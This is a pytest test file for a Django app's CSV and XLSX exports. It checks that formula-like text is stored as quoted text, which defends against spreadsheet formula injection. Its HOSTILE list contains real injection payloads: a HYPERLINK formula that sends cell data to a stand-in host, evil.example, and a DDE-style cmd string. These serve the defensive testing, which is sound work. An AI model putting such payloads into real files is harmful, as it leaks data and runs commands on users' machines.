"""Spreadsheet formula injection (issue 16, finding 6): text that Excel or WPS would run as a
formula (= + - @ TAB CR first) is exported as text by every CSV and XLSX writer — export_layer,
export_records (and the registers' download), the consumption CSV/XLSX — while numbers, negative
ones included, stay numbers. Real files, opened with the csv module and openpyxl."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from layers.models import AdminArea, SewagePlant
from layers.spreadsheet_cells import csv_cell, csv_cell_read, formula_like
from registers.models import AgriculturalPriceReform
from tests.helpers import tables_fingerprint

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _assert_text_not_formula(cell, text: str) -> None:
    """An openpyxl cell holding `text` as a string (never a formula)."""
    assert cell.value == text
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)


class HelperTests:
    def test_formula_like_text_is_quoted_in_csv_and_reads_back(self):
        for text in HOSTILE:
            assert formula_like(text)
            assert csv_cell(text) == "'" + text
            assert csv_cell_read(csv_cell(text)) == text

    def test_numbers_dates_and_plain_text_pass_unchanged(self):
        for value in (-5, -0.25, 0, 3.5, None, True, "连州镇", "DN300", "'quoted", "a=b", ""):
            assert csv_cell(value) == value
        assert csv_cell_read("'quoted") == "'quoted"


class LayerCsvTests:
    def test_export_layer_csv_quotes_formula_text(self, tmp_path):
        plant = SewagePlant.objects.order_by("code").first()
        SewagePlant.objects.filter(pk=plant.pk).update(name=HYPERLINK, effluent_grade="@x")
        path = tmp_path / "plants.csv"
        call_command("export_layer", "sewage-plants", str(path), verbosity=0)
        rows = _cells(path)
        header = rows[0]
        line = next(r for r in rows[1:] if r[header.index("code")] == plant.code)
        assert line[header.index("name")] == "'" + HYPERLINK
        assert line[header.index("effluent_grade")] == "'@x"
        assert line[header.index("wkt")].startswith("POINT")
        # a number is written as a number, with no quote
        capacity = line[header.index("design_capacity_m3d")]
        assert capacity == "" or float(capacity) == pytest.approx(plant.design_capacity_m3d)
        assert not any(
            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
        )


class RecordExportTests:
    @pytest.fixture
    def reform(self):
        row = AgriculturalPriceReform.objects.order_by("pk").first()
        if row is None:
            pytest.skip("the demo has no price-reform rows")
        AgriculturalPriceReform.objects.filter(pk=row.pk).update(note=HYPERLINK)
        return row

    def test_export_records_csv_quotes_formula_text(self, tmp_path, reform):
        path = tmp_path / "reform.csv"
        call_command("export_records", "agricultural-price-reform", str(path), verbosity=0)
        rows = _cells(path)
        note = rows[0].index("note")
        notes = [r[note] for r in rows[1:]]
        assert "'" + HYPERLINK in notes and HYPERLINK not in notes

    def test_export_records_xlsx_holds_text_not_a_formula(self, tmp_path, reform):
        path = tmp_path / "reform.xlsx"
        call_command("export_records", "agricultural-price-reform", str(path), verbosity=0)
        sheet = openpyxl.load_workbook(path).active
        header = [c.value for c in sheet[1]]
        cells = [row[header.index("note")] for row in sheet.iter_rows(min_row=2)]
        hostile = [c for c in cells if c.value == HYPERLINK]
        assert len(hostile) == 1
        _assert_text_not_formula(hostile[0], HYPERLINK)
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        area = [row[header.index("reformed_area_mu")] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "n" for c in area if c.value is not None)


class ConsumptionExportTests:
    QUERY = {
        "zone_type": "town",
        "start": "2024-01",
        "end": "2024-12",
        "group_by": "zone",
        "compare": "previous_year",
    }

    @pytest.fixture
    def town(self):
        town = AdminArea.objects.filter(level="town").order_by("code").first()
        AdminArea.objects.filter(pk=town.pk).update(name=HYPERLINK)
        return town

    @pytest.fixture
    def planner(self, client, django_user_model):
        client.force_login(django_user_model.objects.get(username="planner"))
        return client

    def test_csv_quotes_an_imported_zone_name(self, planner, town):
        response = planner.get("/api/v1/consumption/", {**self.QUERY, "format": "csv"})
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        line = next(r for r in rows[1:] if r[0] == town.code)
        assert line[1] == "'" + HYPERLINK
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)

    def test_xlsx_zone_name_is_text_and_negative_changes_stay_numbers(self, planner, town):
        data = planner.get("/api/v1/consumption/", self.QUERY).json()
        response = planner.get("/api/v1/consumption/", {**self.QUERY, "format": "xlsx"})
        assert response.status_code == 200
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        sheet = book["consumption"]
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == town.code)
        _assert_text_not_formula(row[1], HYPERLINK)
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
        # numbers (negative changes included) are numeric cells, not text
        keys = [c["key"] for c in data["columns"]]
        numbers = [
            (key, cell)
            for r in sheet.iter_rows(min_row=2)
            for key, cell in zip(keys, r, strict=True)
            if isinstance(cell.value, int | float)
        ]
        assert numbers and all(cell.data_type == "n" for _key, cell in numbers)
        assert any(cell.value < 0 for _key, cell in numbers), "the demo has a fall somewhere"


class RoundTripTests:
    def test_quoted_csv_imports_back_unchanged(self, tmp_path):
        row = AgriculturalPriceReform.objects.order_by("pk").first()
        AgriculturalPriceReform.objects.filter(pk=row.pk).update(note="-2+3 @ " + HYPERLINK)
        path = tmp_path / "reform.csv"
        call_command("export_records", "agricultural-price-reform", str(path), verbosity=0)
        before = tables_fingerprint()
        call_command("import_records", "agricultural-price-reform", str(path), verbosity=0)
        assert tables_fingerprint() == before
        row.refresh_from_db()
        assert row.note == "-2+3 @ " + HYPERLINK
